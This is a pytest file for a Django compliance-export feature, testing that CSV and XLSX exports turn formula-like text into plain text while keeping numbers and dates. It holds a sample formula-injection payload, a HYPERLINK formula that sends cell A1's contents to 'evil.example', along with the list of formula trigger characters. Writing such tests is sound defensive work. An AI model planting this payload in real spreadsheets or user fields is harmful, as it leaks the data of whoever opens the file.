"""No export carries a formula (issue 10 item 5): the compliance CSV and XLSX, read back, hold
a formula-like name as text, and numbers and dates stay numbers and dates."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from oversight.assurance.tables import Table, csv_text, xlsx_bytes

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _csv_rows(text: str) -> list[list[str]]:
    return [row for row in csv.reader(io.StringIO(text)) if row]


def _xlsx_cells(content: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_name_beginning_with_a_formula_is_exported_as_text(
    cast: Any, client: Any, held: Any, fmt: str
) -> None:
    cast.practitioner.given_name = EVIL
    cast.practitioner.save()
    held(cast.practitioner, 60)
    client.force_login(cast.line_manager)
    response = client.get(reverse("assurance:compliance_export", args=[fmt]))
    assert response.status_code == 200
    name = f"'{EVIL} {cast.practitioner.family_name}"
    if fmt == "csv":
        names = [row[0] for row in _csv_rows(response.content.decode())]
        assert name in names
        assert not [n for n in names if n.startswith(("=", "+", "-", "@", "\t", "\r"))]
    else:
        cells = _xlsx_cells(response.content)
        assert name in [c.value for c in cells]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []


def test_exports_neutralise_formula_text_and_keep_numbers_and_dates() -> None:
    table = Table(
        key="t",
        caption="+caption",
        columns=["@Team", "Change", "On", "Share"],
        rows=[
            ["-Assessment", -3, dt.date(2026, 11, 17), 12.5],
            ["\tTab", 0, None, "=1+1"],
            ["\rReturn", 7, dt.date(2027, 2, 28), "Plain text"],
        ],
    )
    assert _csv_rows(csv_text([table])) == [
        ["'+caption"],
        ["'@Team", "Change", "On", "Share"],
        ["'-Assessment", "-3", "2026-11-17", "12.5"],
        ["'\tTab", "0", "", "'=1+1"],
        ["'\rReturn", "7", "2027-02-28", "Plain text"],
    ]
    cells = _xlsx_cells(xlsx_bytes([table]))
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = {c.coordinate: c.value for c in cells}
    assert values["A1"] == "'+caption" and values["A3"] == "'-Assessment"
    assert values["B3"] == -3 and values["D3"] == 12.5
    assert values["C3"] == dt.datetime(2026, 11, 17)
    assert values["D4"] == "'=1+1"
